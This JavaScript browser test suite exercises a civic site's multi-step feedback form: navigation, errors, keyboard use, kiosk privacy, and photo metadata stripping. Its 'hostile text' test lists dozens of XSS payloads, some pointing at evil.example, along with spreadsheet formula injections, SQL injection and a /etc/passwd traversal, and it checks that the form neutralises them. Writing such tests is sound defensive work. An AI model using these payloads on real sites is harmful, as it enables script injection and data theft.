// Saying something, as a person does: page by page, back and forward, helped, by keyboard, at a
// screen for everybody, with hostile text.
import assert from 'node:assert/strict';
import { execFileSync } from 'node:child_process';
import { mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { after, before, describe, it } from 'node:test';

import { axeFaults } from './support/axe.mjs';
import { FORMS } from './support/forms.mjs';
import { house, pictureFile } from './support/house.mjs';
import { seeNoFaults } from './support/reader.mjs';
import { ALL, LANGS, address } from './support/site.mjs';

const home = house();

/** The forms' sentences in a language, by name. */
const wordsOf = (lang) =>
  Object.fromEntries(home.site.data(address(lang, 'say/')).content.say.words.map(({ name, text }) => [name, text]));

/** What a person does with a form. */
class Form {
  constructor(reader, lang = 'zh-Hans') {
    this.reader = reader;
    this.page = reader.page;
    this.lang = lang;
    this.words = wordsOf(lang);
  }

  static async open(reader, query, lang = 'zh-Hans') {
    const form = new Form(reader, lang);
    await reader.open(lang, `say/${query}`);
    await form.page.locator('form.say').waitFor();
    return form;
  }

  step() {
    return new URL(this.page.url()).searchParams.get('step');
  }

  async seeStep(step) {
    await this.page.waitForURL((url) => url.searchParams.get('step') === step);
    await this.page.locator('form.say h1').waitFor();
  }

  write(field, text) {
    return this.page.locator(`[id="${field}"]`).fill(text);
  }

  choose(field, value) {
    return this.page.locator(`input[name="${field}"][value="${value}"]`).check();
  }

  tick(field) {
    return this.page.locator(`[id="${field}"]`).check();
  }

  async go(to) {
    await this.page.locator('form.say button[type=submit]').click();
    if (to) await this.seeStep(to);
  }

  async refused() {
    await this.page.locator('form.say button[type=submit]').click();
    await this.page.locator('.error-summary').waitFor();
  }

  /** A story from its first page to the check page. */
  async story({ text = '三号楼的灯坏了', open = 'no', phone = '', name = '' } = {}) {
    await this.choose('whom', 'self');
    await this.go('text');
    await this.write('text', text);
    await this.go('title');
    await this.go('category');
    await this.go('place');
    await this.go('photos');
    await this.go('public');
    await this.choose('public', open);
    await this.go();
    await this.page.waitForURL((url) => ['contact', 'check'].includes(url.searchParams.get('step')));
    if (this.step() === 'contact') {
      await this.page.locator('#phone').waitFor();
      if (name) await this.write('name', name);
      if (phone) await this.write('phone', phone);
      await this.go('check');
    }
  }
}

describe('the page of what can be said', () => {
  for (const lang of LANGS) {
    it(`${lang}: every kind leads to its form, whose first question has the focus`, async () => {
      const reader = await home.reader();
      await reader.open(lang, 'say/');
      const { kinds } = home.site.data(address(lang, 'say/')).content.say;
      for (const { kind } of kinds) {
        await reader.page.locator(`main a[href$="?kind=${kind}"]`).click();
        await reader.page.locator('form.say h1').waitFor();
        await reader.page.waitForFunction(() => document.activeElement?.localName === 'h1');
        assert.equal(new URL(reader.page.url()).searchParams.get('kind'), kind);
        await reader.goBack();
        await reader.page.locator('.say-kinds').waitFor();
      }
      await reader.leave();
    });
  }
});

describe('a story', () => {
  it('is written page by page; back keeps it, reload keeps it, change comes back to the check page', async () => {
    const reader = await home.reader();
    const form = await Form.open(reader, '?kind=story');
    await form.story({ text: '第一行\n第二行' });
    assert.match(await form.page.locator('main').innerText(), /第一行\n第二行/);
    await reader.goBack();
    await reader.goBack();
    await form.seeStep('public');
    assert.ok(await form.page.locator('input[name=public][value=no]').isChecked());
    await reader.open('zh-Hans', 'say/?kind=story&step=text');
    assert.equal(await form.page.locator('#text').inputValue(), '第一行\n第二行');
    await reader.open('zh-Hans', 'say/?kind=story&step=check');
    await form.page.locator('.answer__change a[href*="step=text"]').first().click();
    await form.seeStep('text');
    await form.write('text', '改过了');
    await form.go('check');
    assert.match(await form.page.locator('main').innerText(), /改过了/);
    await reader.leave();
  });

  it('says what is amiss above the page and beside the field, in the same words, and keeps what was typed', async () => {
    const reader = await home.reader();
    const form = await Form.open(reader, '?kind=story');
    await form.choose('whom', 'self');
    await form.go('text');
    const long = '长'.repeat(2001);
    await form.write('text', long);
    await form.refused();
    const summary = form.page.locator('.error-summary');
    await form.page.waitForFunction(() => document.activeElement?.className === 'error-summary');
    assert.ok(await summary.getByRole('heading').innerText());
    const above = await summary.getByRole('link').innerText();
    assert.equal(above, await form.page.locator('#text-error').innerText());
    assert.match(above, /2001.*2000/);
    assert.match(await form.page.title(), /^有错：/);
    const text = form.page.locator('#text');
    assert.equal(await text.getAttribute('aria-invalid'), 'true');
    assert.match(await text.getAttribute('aria-describedby'), /text-error/);
    assert.equal(await text.inputValue(), long);
    await summary.getByRole('link').click();
    await form.page.waitForFunction(() => document.activeElement?.id === 'text');
    await form.write('text', '');
    await form.refused();
    assert.equal(await form.page.locator('#text-error').innerText(), form.words.miss_say);
    await form.write('text', '好了');
    await form.go('title');
    assert.doesNotMatch(await form.page.title(), /有错/);
    await reader.leave();
  });

  it('goes by keyboard alone', async () => {
    const reader = await home.reader();
    const form = await Form.open(reader, '?kind=story');
    const press = (key) => form.page.keyboard.press(key);
    const reach = async (what) => {
      for (let times = 0; times < 60; times += 1) {
        if (await form.page.evaluate((selector) => document.activeElement?.matches(selector), what)) return;
        await press('Tab');
      }
      assert.fail(`${what} is not reached by Tab`);
    };
    await reach('input[name=whom]');
    await press('Space');
    await press('Enter');
    await form.seeStep('text');
    await reach('#text');
    await form.page.keyboard.type('灯坏了');
    await reach('form.say button[type=submit]');
    await press('Enter');
    await form.seeStep('title');
    await reader.leave();
  });

  it('points out a telephone number in what will be public, and takes it out', async () => {
    const reader = await home.reader();
    const form = await Form.open(reader, '?kind=story');
    await form.story({ text: '灯坏了，找老王 13812345678', open: 'yes' });
    await form.refused();
    assert.equal(await form.page.locator('.error-summary a').first().innerText(), form.words.miss_numbers);
    await form.page.getByRole('button', { name: form.words.numbers_remove }).click();
    await form.page.locator('#numbers').waitFor({ state: 'detached' });
    const told = await form.page.locator('main').innerText();
    assert.ok(told.includes(form.words.number_gone) && !told.includes('13812345678'));
    await reader.leave();
  });

  it('for somebody else asks for consent, and for reading back before it goes', async () => {
    const reader = await home.reader();
    const form = await Form.open(reader, '?kind=story');
    await form.choose('whom', 'help');
    await form.go('helper');
    await form.refused();
    assert.equal(await form.page.locator('.error-summary a').count(), 2);
    await form.write('relation', '女儿');
    await form.tick('consent');
    await form.go('text');
    await form.write('text', '妈妈说楼道太暗');
    await form.go('title');
    await form.page.goto(address('zh-Hans', 'say/?kind=story&step=public'));
    await form.page.locator('input[name=public]').first().waitFor();
    await form.choose('public', 'no');
    await form.go();
    await form.page.waitForURL((url) => ['contact', 'check'].includes(url.searchParams.get('step')));
    if (form.step() === 'contact') await form.go('check');
    await form.refused();
    assert.equal(await form.page.locator('#read_back-error').innerText(), form.words.miss_read_back);
    assert.match(await form.page.locator('main').innerText(), /女儿/);
    await reader.leave();
  });

  it('is discarded only after being asked once more', async () => {
    const reader = await home.reader();
    const form = await Form.open(reader, '?kind=story');
    await form.choose('whom', 'self');
    await form.go('text');
    await form.write('text', '不说了');
    await form.page.getByRole('button', { name: form.words.discard, exact: true }).click();
    await form.page.getByRole('button', { name: form.words.discard_yes, exact: true }).click();
    await form.page.locator('.say-kinds').waitFor();
    assert.equal(await form.page.evaluate(() => localStorage.getItem('mingbai.draft.story')), null);
    await reader.open('zh-Hans', 'say/?kind=story&step=text');
    assert.equal(await form.page.locator('#text').count(), 0, 'the form begins at its beginning');
    await reader.leave();
  });
});

describe('a voice', () => {
  it('that may not be recorded says so, and leaves the other ways', async () => {
    const reader = await home.reader();
    const form = await Form.open(reader, '?kind=story');
    await form.choose('whom', 'self');
    await form.go('text');
    await form.page.evaluate(() => {
      const refuse = () => Promise.reject(new DOMException('no', 'NotAllowedError'));
      navigator.mediaDevices.getUserMedia = refuse;
    });
    await form.page.getByRole('button', { name: form.words.voice_start, exact: true }).click();
    await form.page.locator('.voice [role=status]', { hasText: form.words.voice_refused }).waitFor();
    await form.write('text', '那就打字');
    await form.go('title');
    await reader.leave();
  });
});

describe('at a screen for everybody', () => {
  it('nothing typed stays behind', async () => {
    const reader = await home.reader();
    const form = await Form.open(reader, '?kind=story&kiosk=hall-1');
    assert.equal(await form.page.locator('html').getAttribute('data-kiosk'), 'hall-1');
    await form.choose('whom', 'self');
    await form.go('text');
    await form.write('text', '这里不该留下');
    await form.go('title');
    const kept = await form.page.evaluate(async () => ({
      local: JSON.stringify(localStorage),
      session: JSON.stringify(sessionStorage),
      caches: await caches.keys(),
    }));
    assert.ok(!JSON.stringify(kept).includes('这里不该留下'));
    assert.deepEqual(kept.caches, []);
    assert.equal(await form.page.locator('.draft p').first().innerText(), form.words.draft_kiosk);
    await reader.leave();
  });
});

describe('asking about an item of the accounts', () => {
  it('names the item on the check page', async () => {
    const reader = await home.reader();
    await reader.openBudget();
    await reader.follow(reader.page.locator('main .door__link').first());
    const name = await reader.drillDown();
    await reader.page.locator('main a.ask').click();
    await reader.page.locator('form.say').waitFor();
    const form = new Form(reader);
    await form.choose('whom', 'self');
    await form.go('text');
    await form.write('text', '为什么比去年多？');
    await form.go('public');
    await form.choose('public', 'yes');
    await form.go();
    await form.page.waitForURL((url) => ['contact', 'check'].includes(url.searchParams.get('step')));
    if (form.step() === 'contact') await form.go('check');
    await form.page.locator('.answer__text', { hasText: name }).first().waitFor();
    await reader.leave();
  });
});

describe('photographs', () => {
  let folder;
  before(() => {
    folder = mkdtempSync(path.join(os.tmpdir(), 'mingbai-photos-'));
  });
  after(() => rmSync(folder, { recursive: true, force: true }));

  const has = (() => {
    try {
      execFileSync('exiftool', ['-ver']);
      return true;
    } catch {
      return false;
    }
  })();

  /** What a photograph tells besides its picture. */
  const tags = (file) =>
    Object.keys(JSON.parse(execFileSync('exiftool', ['-j', '-G1', '-a', file], { encoding: 'utf8' }))[0]).filter(
      (tag) => !/^(SourceFile|ExifTool:|System:|File:|JFIF:|Composite:(ImageSize|Megapixels))/.test(tag),
    );

  const count = Number(process.env.MINGBAI_PHOTOS ?? (ALL ? 500 : 3));
  it(`${count} leave the device without place, time or camera`, { skip: has ? false : 'exiftool is not there' }, async () => {
    const reader = await home.reader();
    await reader.open('zh-Hans', 'say/');
    // A picture from the browser's own canvas, into which a camera's tags are written.
    const plain = await reader.page.evaluate(async () => {
      const canvas = document.createElement('canvas');
      canvas.width = 2400;
      canvas.height = 1600;
      const pen = canvas.getContext('2d');
      for (let at = 0; at < 400; at += 1) {
        pen.fillStyle = `hsl(${(at * 37) % 360} 60% 50%)`;
        pen.fillRect((at * 97) % 2400, (at * 61) % 1600, 200, 120);
      }
      return canvas.toDataURL('image/jpeg', 0.95).split(',')[1];
    });
    const seen = path.join(folder, 'camera.jpg');
    writeFileSync(seen, Buffer.from(plain, 'base64'));
    execFileSync('exiftool', ['-q', '-overwrite_original', '-Make=Camera', '-SerialNumber=42', '-GPSLatitude=39.9',
      '-GPSLatitudeRef=N', '-GPSLongitude=116.4', '-GPSLongitudeRef=E', '-DateTimeOriginal=2026:11:05 10:00:00',
      '-XMP:Creator=老王', '-IPTC:Caption-Abstract=secret', '-Comment=secret', seen]);
    assert.ok(tags(seen).length >= 6, 'the camera tells a lot');
    const form = await Form.open(reader, '?kind=story');
    await form.choose('whom', 'self');
    await form.go('text');
    await form.write('text', '看照片');
    await form.page.goto(address('zh-Hans', 'say/?kind=story&step=photos'));
    let left = count;
    while (left > 0) {
      const now = Math.min(3, left);
      await form.page.locator('#photos').setInputFiles(Array(now).fill(seen));
      await form.page.locator('.photo').nth(now - 1).waitFor();
      for (let at = 0; at < now; at += 1) {
        // The bytes that the draft keeps are the ones that the outbox is given.
        const made = await form.page.evaluate(async (nth) => {
          const image = document.querySelectorAll('.photo__img')[nth];
          await image.decode();
          const cache = await caches.open('mingbai.draft.story');
          for (;;) {
            const kept = await cache.match(`/draft/photo/${nth + 1}`);
            if (kept) {
              const bytes = [...new Uint8Array(await kept.arrayBuffer())];
              return { bytes, width: image.naturalWidth, height: image.naturalHeight };
            }
            await new Promise((done) => { requestAnimationFrame(done); });
          }
        }, at);
        const file = path.join(folder, 'made.jpg');
        writeFileSync(file, Buffer.from(made.bytes));
        assert.deepEqual(tags(file), [], 'nothing but the picture');
        assert.ok(made.bytes.length <= 300 * 1024, `${made.bytes.length} bytes`);
        assert.equal(Math.max(made.width, made.height), 1280);
        assert.ok(!readFileSync(file).includes(Buffer.from('secret')));
      }
      left -= now;
      for (let at = 0; at < now; at += 1) {
        await form.page.locator('.photo button').first().click();
        await form.page.locator('.photo').nth(now - 1 - at).waitFor({ state: 'detached' });
      }
    }
    await reader.leave();
  });

  it('a file that is none is refused in words', async () => {
    const reader = await home.reader();
    const form = await Form.open(reader, '?kind=story');
    await form.choose('whom', 'self');
    await form.go('text');
    await form.write('text', '看照片');
    await form.page.goto(address('zh-Hans', 'say/?kind=story&step=photos'));
    await form.page.locator('#photos').setInputFiles({ name: 'x.jpg', mimeType: 'image/jpeg', buffer: Buffer.from('no picture') });
    await form.page.locator('.say__said', { hasText: form.words.photos_bad }).waitFor();
    await reader.leave();
  });
});

// Markup, addresses, templates and tricks of writing direction: all of it is text.
const HOSTILE = [
  '<script>alert(1)</script>', '<img src=x onerror=alert(1)>', '<svg onload=alert(1)>', '"><script>alert(1)</script>',
  "'><img src=x onerror=alert(1)>", '<iframe src=javascript:alert(1)>', 'javascript:alert(1)', '<a href=javascript:alert(1)>x</a>',
  '<body onload=alert(1)>', '<input autofocus onfocus=alert(1)>', '<details open ontoggle=alert(1)>', '<video><source onerror=alert(1)>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>', '</textarea><script>alert(1)</script>',
  '</title><script>alert(1)</script>', '</script><script>alert(1)</script>', '<!--<script>alert(1)//-->', '<![CDATA[<script>alert(1)</script>]]>',
  '{{constructor.constructor("alert(1)")()}}', '${alert(1)}', '#{alert(1)}', '<%= alert(1) %>', '\\u003cscript\\u003ealert(1)\\u003c/script\\u003e',
  '%3Cscript%3Ealert(1)%3C/script%3E', '&lt;script&gt;alert(1)&lt;/script&gt;', '&#60;script&#62;alert(1)&#60;/script&#62;',
  '<ScRiPt>alert(1)</sCrIpT>', '<script/src=//evil.example/x.js>', '<link rel=stylesheet href=//evil.example/x.css>',
  '<meta http-equiv=refresh content=0;url=//evil.example>', '<base href=//evil.example/>', '<form action=//evil.example><button>x</button></form>',
  '<object data=data:text/html,<script>alert(1)</script>>', '<embed src=javascript:alert(1)>', '<style>@import "//evil.example";</style>',
  '<div style="background:url(javascript:alert(1))">', '<img srcset="x 1x" onerror=alert(1)>', '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
  '<svg><script>alert(1)</script></svg>', '<svg><animate onbegin=alert(1) attributeName=x>', '<marquee onstart=alert(1)>x</marquee>',
  '<isindex type=image src=1 onerror=alert(1)>', '<keygen autofocus onfocus=alert(1)>', '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<template><script>alert(1)</script></template>', '<x contenteditable onblur=alert(1)>x</x>', '<button formaction=javascript:alert(1)>x',
  '<audio src onloadstart=alert(1)>', '<portal src=javascript:alert(1)>', 'data:text/html,<script>alert(1)</script>',
  'vbscript:msgbox(1)', '=HYPERLINK("http://evil.example","x")', '=cmd|"/c calc"!A1', '@SUM(1+1)*cmd|"/c calc"!A1', '+1+1', '-2+3',
  "'; DROP TABLE stories;--", '../../../../etc/passwd', '\u0001\u0002\u007f', '\u200b\u200e\u202e反过来\u2066', '＜script＞alert(1)＜/script＞',
  '💣'.repeat(20), 'é́́́́', '\ud800',
];

describe('hostile text', () => {
  it(`${HOSTILE.length} tricks in every field run nothing and stand there as text`, async () => {
    const reader = await home.reader();
    let dialogs = 0;
    reader.page.on('dialog', (dialog) => {
      dialogs += 1;
      return dialog.dismiss();
    });
    const asked = [];
    reader.page.on('request', (request) => {
      if (!request.url().startsWith(reader.origin) && !/^(blob|data):/.test(request.url())) asked.push(request.url());
    });
    const form = await Form.open(reader, '?kind=story');
    await form.choose('whom', 'help');
    await form.go('helper');
    await form.tick('consent');
    for (const text of HOSTILE) {
      await form.page.evaluate((typed) => {
        const kept = {
          whom: 'help', consent: 'yes', relation: typed.slice(0, 40), text: typed, title: typed.slice(0, 40),
          place: typed.slice(0, 60), public: 'named', name: typed.slice(0, 40), phone: typed.slice(0, 40), other: typed.slice(0, 60),
        };
        const draft = Object.entries(kept).map(([name, value]) => `${name}\u001d${value}\u001e`).join('');
        localStorage.setItem('mingbai.draft.story', draft);
      }, text);
      await reader.open('zh-Hans', 'say/?kind=story&step=check');
      await form.page.locator('.answers').first().waitFor();
      const told = await form.page.locator('.answers').first().innerText();
      const plain = text.replace(/\s+/g, ' ').trim();
      if (!/[\u0000-\u001f\u007f\ud800]/.test(text)) {
        assert.ok(told.replace(/\s+/g, ' ').includes(plain), `${JSON.stringify(text)} stands there as it was typed`);
      }
      await form.page.locator('form.say button[type=submit]').click();
      await form.page.locator('.error-summary').waitFor();
      assert.equal(await form.page.locator('main script, main iframe, main object, main embed, main [onerror], main [onload]').count(), 0);
    }
    assert.equal(dialogs, 0);
    assert.deepEqual(asked, []);
    await reader.leave();
  });
});

describe('every page of a form', () => {
  const STEPS = ['whom', 'helper', 'text', 'title', 'category', 'place', 'photos', 'public', 'contact', 'check'];
  for (const lang of LANGS) {
    it(`${lang}: holds in every size and mode, and axe finds nothing`, async () => {
      const reader = await home.reader({ axe: true });
      const form = await Form.open(reader, '?kind=story', lang);
      await form.choose('whom', 'help');
      await form.go('helper');
      await form.write('relation', 'A'.repeat(20));
      await form.write('relation', '志愿者');
      await form.tick('consent');
      await form.go('text');
      await form.write('text', '三号楼二单元的灯坏了，晚上看不见台阶，上周有人摔了一跤。');
      for (const step of STEPS) {
        await reader.open(lang, `say/?kind=story&step=${step}`);
        await form.page.locator('form.say h1').waitFor();
        for (const size of FORMS) {
          await reader.hold(size);
          const name = `say-${step}-${lang}`;
          await form.page.screenshot({ path: pictureFile(size.name, name), fullPage: true });
          const faults = { ...(await axeFaults(reader, size.mode)), ...(await reader.faultsOfForm(size)) };
          seeNoFaults(faults, `${lang} ${step} ${size.name}`);
        }
      }
      await reader.leave();
    });
  }
});

